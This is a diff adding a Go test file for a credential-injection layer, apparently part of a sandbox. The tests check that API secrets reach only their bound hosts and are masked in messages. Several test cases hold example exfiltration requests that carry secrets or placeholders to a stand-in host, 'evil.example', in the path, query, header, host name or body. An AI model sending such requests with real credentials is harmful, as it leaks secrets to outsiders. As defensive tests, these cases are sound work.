@@ -1,0 +1,422 @@
+package credinject
+
+import (
+	"encoding/base64"
+	"errors"
+	"io"
+	"math/rand/v2"
+	"net/http"
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/cordon-sandbox/cordon/policy"
+)
+
+const (
+	anthropicSecret = "sk-ant-real-anthropic-secret-999"
+	githubSecret    = "ghp_realgithubtoken0123456789"
+	mapsSecret      = "maps-real-key/with+odd=chars"
+	legacySecret    = "legacy-real-token-777"
+)
+
+// applySet loads one credential of each injection form.
+func applySet(t testing.TB) *Set {
+	t.Helper()
+	creds := []policy.Credential{
+		validCred(),
+		{Name: "anthropic", Source: policy.Source{Env: "ANTHROPIC"}, Hosts: []string{"api.anthropic.com"}, Header: "x-api-key: {}", Env: "ANTHROPIC_API_KEY", PlaceholderPrefix: "sk-ant-"},
+		{Name: "github", Source: policy.Source{Env: "GITHUB"}, Hosts: []string{"github.com", "*.github.com"}, BasicAuth: "x-access-token", Env: "GH_TOKEN"},
+		{Name: "maps", Source: policy.Source{Env: "MAPS"}, Hosts: []string{"maps.example.com"}, Query: "key", Env: "MAPS_KEY"},
+		{Name: "legacy", Source: policy.Source{Env: "LEGACY"}, Hosts: []string{"legacy.example.com:8080"}, Header: "X-Token: {}", Env: "LEGACY_TOKEN", AllowPlaintext: true},
+	}
+	env := envOf(map[string]string{
+		"REAL_OPENAI": openaiSecret,
+		"ANTHROPIC":   anthropicSecret,
+		"GITHUB":      githubSecret,
+		"MAPS":        mapsSecret,
+		"LEGACY":      legacySecret,
+	})
+	set, err := Load(creds, []string{"openai", "anthropic", "github", "maps", "legacy"}, Options{Env: env})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return set
+}
+
+// ph returns the placeholder of the named credential.
+func ph(s *Set, name string) string {
+	for _, c := range s.creds {
+		if c.name == name {
+			return c.placeholder
+		}
+	}
+	panic("no credential " + name)
+}
+
+func normalized(t testing.TB, host string) string {
+	t.Helper()
+	h, err := policy.NormalizeHost(host)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return h
+}
+
+func basic(userPass string) string {
+	return "Basic " + base64.StdEncoding.EncodeToString([]byte(userPass))
+}
+
+// applyCase is one request through Apply. Values written "{openai}" in
+// rawURL and headers are replaced by that credential's placeholder, and
+// "{basic:USER:NAME}" by Basic credentials with NAME's placeholder.
+type applyCase struct {
+	name    string
+	rawURL  string
+	headers map[string]string
+	host    string
+	port    int
+	secure  bool
+	// wantReason and wantCred describe a refusal.
+	wantReason policy.Reason
+	wantCred   string
+	// wantInjected and check describe a success.
+	wantInjected []string
+	check        func(t *testing.T, req *http.Request)
+}
+
+// expand fills in placeholders.
+func expand(s *Set, v string) string {
+	for _, c := range s.creds {
+		v = strings.ReplaceAll(v, "{basic:x:"+c.name+"}", basic("x:"+c.placeholder))
+		v = strings.ReplaceAll(v, "{"+c.name+"}", c.placeholder)
+	}
+	return v
+}
+
+func (tc applyCase) request(t testing.TB, s *Set) *http.Request {
+	t.Helper()
+	req, err := http.NewRequest(http.MethodGet, expand(s, tc.rawURL), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for k, v := range tc.headers {
+		req.Header.Set(k, expand(s, v))
+	}
+	return req
+}
+
+func wantHeader(name, want string) func(*testing.T, *http.Request) {
+	return func(t *testing.T, req *http.Request) {
+		t.Helper()
+		if got := req.Header.Values(name); !slices.Equal(got, []string{want}) {
+			t.Errorf("header %s = %q, want %q", name, got, want)
+		}
+	}
+}
+
+func wantQuery(want string) func(*testing.T, *http.Request) {
+	return func(t *testing.T, req *http.Request) {
+		t.Helper()
+		if req.URL.RawQuery != want {
+			t.Errorf("query = %q, want %q", req.URL.RawQuery, want)
+		}
+	}
+}
+
+func applyCases(t testing.TB) []applyCase {
+	return []applyCase{
+		{name: "bound host replaces placeholder", rawURL: "https://api.openai.com/v1/chat", headers: map[string]string{"Authorization": "Bearer {openai}"},
+			host: "api.openai.com", port: 443, secure: true, wantInjected: []string{"openai"}, check: wantHeader("Authorization", "Bearer "+openaiSecret)},
+		{name: "absent header is added", rawURL: "https://api.openai.com/v1/chat",
+			host: "api.openai.com", port: 443, secure: true, wantInjected: []string{"openai"}, check: wantHeader("Authorization", "Bearer "+openaiSecret)},
+		{name: "case-variant host as normalised by the caller", rawURL: "https://API.OpenAI.COM/v1", headers: map[string]string{"Authorization": "Bearer {openai}"},
+			host: normalized(t, "API.OpenAI.COM"), port: 443, secure: true, wantInjected: []string{"openai"}, check: wantHeader("Authorization", "Bearer "+openaiSecret)},
+		{name: "present header of another scheme is kept", rawURL: "https://api.openai.com/v1", headers: map[string]string{"Authorization": "Bearer mine"},
+			host: "api.openai.com", port: 443, secure: true, check: wantHeader("Authorization", "Bearer mine")},
+		{name: "placeholder in any header value", rawURL: "https://api.openai.com/v1", headers: map[string]string{"Authorization": "Bearer {openai}", "X-Echo": "a {openai} b {openai}"},
+			host: "api.openai.com", port: 443, secure: true, wantInjected: []string{"openai"}, check: wantHeader("X-Echo", "a "+openaiSecret+" b "+openaiSecret)},
+		{name: "custom header added", rawURL: "https://api.anthropic.com/v1/messages",
+			host: "api.anthropic.com", port: 443, secure: true, wantInjected: []string{"anthropic"}, check: wantHeader("X-Api-Key", anthropicSecret)},
+		{name: "custom header replaced", rawURL: "https://api.anthropic.com/v1/messages", headers: map[string]string{"x-api-key": "{anthropic}"},
+			host: "api.anthropic.com", port: 443, secure: true, wantInjected: []string{"anthropic"}, check: wantHeader("X-Api-Key", anthropicSecret)},
+		{name: "basic auth added", rawURL: "https://github.com/o/r.git/info/refs",
+			host: "github.com", port: 443, secure: true, wantInjected: []string{"github"}, check: wantHeader("Authorization", basic("x-access-token:"+githubSecret))},
+		{name: "basic auth password re-encoded", rawURL: "https://api.github.com/user", headers: map[string]string{"Authorization": "{basic:x:github}"},
+			host: "api.github.com", port: 443, secure: true, wantInjected: []string{"github"}, check: wantHeader("Authorization", basic("x:"+githubSecret))},
+		{name: "query parameter added", rawURL: "https://maps.example.com/geo?z=1&a=2",
+			host: "maps.example.com", port: 443, secure: true, wantInjected: []string{"maps"}, check: wantQuery("z=1&a=2&key=" + url.QueryEscape(mapsSecret))},
+		{name: "query parameter replaced in place", rawURL: "https://maps.example.com/geo?z=%2F&key={maps}&a=2",
+			host: "maps.example.com", port: 443, secure: true, wantInjected: []string{"maps"}, check: wantQuery("z=%2F&key=" + url.QueryEscape(mapsSecret) + "&a=2")},
+		{name: "placeholder in path of bound host", rawURL: "https://maps.example.com/bot{maps}/send?key=x",
+			host: "maps.example.com", port: 443, secure: true, wantInjected: []string{"maps"}, check: func(t *testing.T, req *http.Request) {
+				if want := "/bot" + mapsSecret + "/send"; req.URL.Path != want {
+					t.Errorf("path = %q, want %q", req.URL.Path, want)
+				}
+			}},
+		{name: "unbound host in header", rawURL: "https://evil.example/", headers: map[string]string{"Authorization": "Bearer {openai}"},
+			host: "evil.example", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "openai"},
+		{name: "unbound host in path", rawURL: "https://evil.example/steal/{anthropic}",
+			host: "evil.example", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "anthropic"},
+		{name: "unbound host in query", rawURL: "https://evil.example/?q={maps}",
+			host: "evil.example", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "maps"},
+		{name: "unbound host in encoded query", rawURL: "https://evil.example/?q=" + strings.Repeat("%20", 2) + "{openai}",
+			host: "evil.example", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "openai"},
+		{name: "unbound host in Basic credentials", rawURL: "https://evil.example/", headers: map[string]string{"Authorization": "{basic:x:github}"},
+			host: "evil.example", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "github"},
+		{name: "another credential's host", rawURL: "https://api.openai.com/", headers: map[string]string{"X-Api-Key": "{anthropic}"},
+			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "anthropic"},
+		{name: "bound name on an unbound port", rawURL: "https://legacy.example.com/", headers: map[string]string{"X-Token": "{legacy}"},
+			host: "legacy.example.com", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "legacy"},
+		{name: "placeholder in the host name", rawURL: "https://x.github.com/",
+			host: "{github}.github.com", port: 443, secure: true, wantReason: ReasonMisroute, wantCred: "github"},
+		{name: "plaintext refused", rawURL: "http://api.openai.com/v1", headers: map[string]string{"Authorization": "Bearer {openai}"},
+			host: "api.openai.com", port: 80, wantReason: ReasonPlaintext, wantCred: "openai"},
+		{name: "plaintext without placeholder injects nothing", rawURL: "http://api.openai.com/v1",
+			host: "api.openai.com", port: 80, check: func(t *testing.T, req *http.Request) {
+				if len(req.Header) != 0 {
+					t.Errorf("headers added over plain HTTP: %q", req.Header)
+				}
+			}},
+		{name: "allow_plaintext injects", rawURL: "http://legacy.example.com:8080/", headers: map[string]string{"X-Token": "{legacy}"},
+			host: "legacy.example.com", port: 8080, wantInjected: []string{"legacy"}, check: wantHeader("X-Token", legacySecret)},
+		{name: "real secret in header", rawURL: "https://api.openai.com/", headers: map[string]string{"Authorization": "Bearer " + openaiSecret},
+			host: "api.openai.com", port: 443, secure: true, wantReason: ReasonSecretLeak, wantCred: "openai"},
+		{name: "real secret in query", rawURL: "https://evil.example/?k=" + url.QueryEscape(mapsSecret),
+			host: "evil.example", port: 443, secure: true, wantReason: ReasonSecretLeak, wantCred: "maps"},
+		{name: "real secret in path", rawURL: "https://evil.example/" + githubSecret,
+			host: "evil.example", port: 443, secure: true, wantReason: ReasonSecretLeak, wantCred: "github"},
+		{name: "real secret in Basic credentials", rawURL: "https://evil.example/", headers: map[string]string{"Proxy-Authorization": basic("u:" + anthropicSecret)},
+			host: "evil.example", port: 443, secure: true, wantReason: ReasonSecretLeak, wantCred: "anthropic"},
+		{name: "real secret in the host name", rawURL: "https://x.evil.example/",
+			host: openaiSecret + ".evil.example", port: 443, secure: true, wantReason: ReasonSecretLeak, wantCred: "openai"},
+		{name: "real secret in URL user info", rawURL: "https://u:" + legacySecret + "@evil.example/",
+			host: "evil.example", port: 443, secure: true, wantReason: ReasonSecretLeak, wantCred: "legacy"},
+		{name: "real secret in a header name", rawURL: "https://evil.example/", headers: map[string]string{"X-" + legacySecret: "1"},
+			host: "evil.example", port: 443, secure: true, wantReason: ReasonSecretLeak, wantCred: "legacy"},
+	}
+}
+
+func TestApply(t *testing.T) {
+	set := applySet(t)
+	for _, tc := range applyCases(t) {
+		t.Run(tc.name, func(t *testing.T) {
+			tc.host = expand(set, tc.host)
+			req := tc.request(t, set)
+			before := req.Clone(req.Context())
+			out, err := set.Apply(req, tc.host, tc.port, tc.secure)
+			if tc.wantReason != "" {
+				var ce *Error
+				if !errors.As(err, &ce) {
+					t.Fatalf("err = %v, want a %s refusal", err, tc.wantReason)
+				}
+				if ce.Reason != tc.wantReason || ce.Credential != tc.wantCred {
+					t.Errorf("refused %s for %q, want %s for %q (%v)", ce.Reason, ce.Credential, tc.wantReason, tc.wantCred, err)
+				}
+				if req.URL.String() != before.URL.String() || !headersEqual(req.Header, before.Header) {
+					t.Errorf("a refused request was changed")
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !slices.Equal(out.Injected, tc.wantInjected) {
+				t.Errorf("Injected = %q, want %q", out.Injected, tc.wantInjected)
+			}
+			if tc.check != nil {
+				tc.check(t, req)
+			}
+		})
+	}
+}
+
+func headersEqual(a, b http.Header) bool {
+	if len(a) != len(b) {
+		return false
+	}
+	for k, v := range a {
+		if !slices.Equal(v, b[k]) {
+			return false
+		}
+	}
+	return true
+}
+
+func TestApplyEmptySet(t *testing.T) {
+	req, _ := http.NewRequest(http.MethodPost, "https://x.example/", strings.NewReader("body"))
+	var nilSet *Set
+	out, err := nilSet.Apply(req, "x.example", 443, true)
+	if err != nil || out.Body != nil || len(out.Injected) != 0 {
+		t.Fatalf("Apply on an empty set = %+v, %v", out, err)
+	}
+}
+
+func TestApplyGuardsBody(t *testing.T) {
+	set := applySet(t)
+	tests := []struct {
+		name       string
+		host       string
+		body       string
+		wantReason policy.Reason
+		wantCred   string
+		// refused is the value the guard must stop before.
+		refused string
+	}{
+		{"bound placeholder passes", "api.openai.com", `{"key":"{openai}"}`, "", "", ""},
+		{"no needle passes", "evil.example", `{"prompt":"hello"}`, "", "", ""},
+		{"foreign placeholder", "api.openai.com", `{"key":"{anthropic}"}`, ReasonMisroute, "anthropic", "{anthropic}"},
+		{"real secret to its own host", "api.openai.com", `{"key":"` + openaiSecret + `"}`, ReasonSecretLeak, "openai", openaiSecret},
+		{"real secret elsewhere", "evil.example", strings.Repeat("x", 70000) + githubSecret, ReasonSecretLeak, "github", githubSecret},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			body := expand(set, tt.body)
+			req, err := http.NewRequest(http.MethodPost, "https://"+tt.host+"/v1", &chunkReader{data: []byte(body), sizes: []int{5, 3, 1000}})
+			if err != nil {
+				t.Fatal(err)
+			}
+			out, err := set.Apply(req, tt.host, 443, true)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if req.Body != out.Body || req.GetBody != nil {
+				t.Fatal("Apply did not put the guard in req.Body")
+			}
+			got, err := io.ReadAll(req.Body)
+			if tt.wantReason == "" {
+				if err != nil || string(got) != body || out.Body.Err() != nil {
+					t.Fatalf("body = %d bytes, %v; want it passed unchanged", len(got), err)
+				}
+				return
+			}
+			var ce *Error
+			if !errors.As(err, &ce) || ce.Reason != tt.wantReason || ce.Credential != tt.wantCred || ce.Where != "request body" {
+				t.Fatalf("err = %v, want %s for %q", err, tt.wantReason, tt.wantCred)
+			}
+			if !errors.Is(out.Body.Err(), ce) {
+				t.Errorf("Body.Err = %v, want %v", out.Body.Err(), ce)
+			}
+			if at := strings.Index(body, expand(set, tt.refused)); len(got) > at {
+				t.Errorf("read %d bytes, past the refused value at %d", len(got), at)
+			}
+		})
+	}
+}
+
+// TestNoSecretInMessages: no refusal, body refusal or outcome text ever
+// holds a secret or a placeholder, even when the request puts them in the
+// header names and host the messages quote.
+func TestNoSecretInMessages(t *testing.T) {
+	set := applySet(t)
+	var texts []string
+	for _, tc := range applyCases(t) {
+		tc.host = expand(set, tc.host)
+		out, err := set.Apply(tc.request(t, set), tc.host, tc.port, tc.secure)
+		texts = append(texts, out.String())
+		if err != nil {
+			texts = append(texts, err.Error())
+		}
+	}
+	for _, c := range set.creds {
+		for _, v := range []string{c.placeholder, c.secret} {
+			req, _ := http.NewRequest(http.MethodGet, "https://evil.example/", nil)
+			req.Header["X-"+v] = []string{ph(set, "openai")}
+			if _, err := set.Apply(req, strings.ToLower(v)+".evil.example", 443, true); err != nil {
+				texts = append(texts, err.Error())
+			} else {
+				t.Errorf("a header named after %s's value was let through", c.name)
+			}
+			g := set.GuardBody(io.NopCloser(strings.NewReader("x"+v)), "evil.example", 443)
+			if _, err := io.ReadAll(g); err != nil {
+				texts = append(texts, err.Error(), g.Err().Error())
+			} else {
+				t.Errorf("a body holding %s's value was let through", c.name)
+			}
+		}
+	}
+	texts = append(texts, randomRefusals(t, set)...)
+	for _, text := range texts {
+		for _, c := range set.creds {
+			for _, v := range []string{c.placeholder, c.secret} {
+				if strings.Contains(strings.ToLower(text), strings.ToLower(v)) {
+					t.Errorf("message holds %s's value: %q", c.name, text)
+				}
+			}
+		}
+	}
+	if len(texts) < 300 {
+		t.Fatalf("only %d messages checked", len(texts))
+	}
+}
+
+func TestOutcomeString(t *testing.T) {
+	if got := (Outcome{}).String(); got != "no credential injected" {
+		t.Errorf("empty outcome = %q", got)
+	}
+	if got := (Outcome{Injected: []string{"a", "b"}}).String(); got != "injected a, b" {
+		t.Errorf("outcome = %q", got)
+	}
+}
+
+func TestMaskHeader(t *testing.T) {
+	set := applySet(t)
+	h := http.Header{
+		"X-Echo":              {"token=" + openaiSecret},
+		"X-" + githubSecret:   {"1"},
+		"Www-Authenticate":    {"Bearer realm=x"},
+		"X-Anthropic-Leak-Id": {anthropicSecret + anthropicSecret},
+	}
+	set.MaskHeader(h)
+	want := http.Header{
+		"X-Echo":                 {"token=" + ph(set, "openai")},
+		"X-" + ph(set, "github"): {"1"},
+		"Www-Authenticate":       {"Bearer realm=x"},
+		"X-Anthropic-Leak-Id":    {ph(set, "anthropic") + ph(set, "anthropic")},
+	}
+	if !headersEqual(h, want) {
+		t.Errorf("MaskHeader = %q, want %q", h, want)
+	}
+}
+
+// randomRefusals puts a random credential's placeholder or secret in a
+// random part of a request toward a random host, and returns every
+// message Apply produced.
+func randomRefusals(t *testing.T, set *Set) []string {
+	hosts := []string{"api.openai.com", "evil.example", "github.com", "legacy.example.com"}
+	var texts []string
+	for seed := range uint64(propertySeeds) {
+		rng := rand.New(rand.NewPCG(seed, 4))
+		c := set.creds[rng.IntN(len(set.creds))]
+		v := c.placeholder
+		if rng.IntN(2) == 0 {
+			v = c.secret
+		}
+		host := hosts[rng.IntN(len(hosts))]
+		req, err := http.NewRequest(http.MethodGet, "https://"+host+"/", nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		switch rng.IntN(6) {
+		case 0:
+			req.Header.Set("X-"+v, "1")
+		case 1:
+			req.Header.Set("X-Key", "k "+v)
+		case 2:
+			req.Header.Set("Authorization", basic("u:"+v))
+		case 3:
+			req.URL.Path = "/a/" + v
+		case 4:
+			req.URL.RawQuery = "q=" + url.QueryEscape(v)
+		default:
+			host = strings.ToLower(v) + "." + host
+		}
+		out, err := set.Apply(req, host, []int{80, 443, 8080}[rng.IntN(3)], rng.IntN(2) == 0)
+		texts = append(texts, out.String())
+		if err != nil {
+			texts = append(texts, err.Error())
+		}
+	}
+	return texts
+}
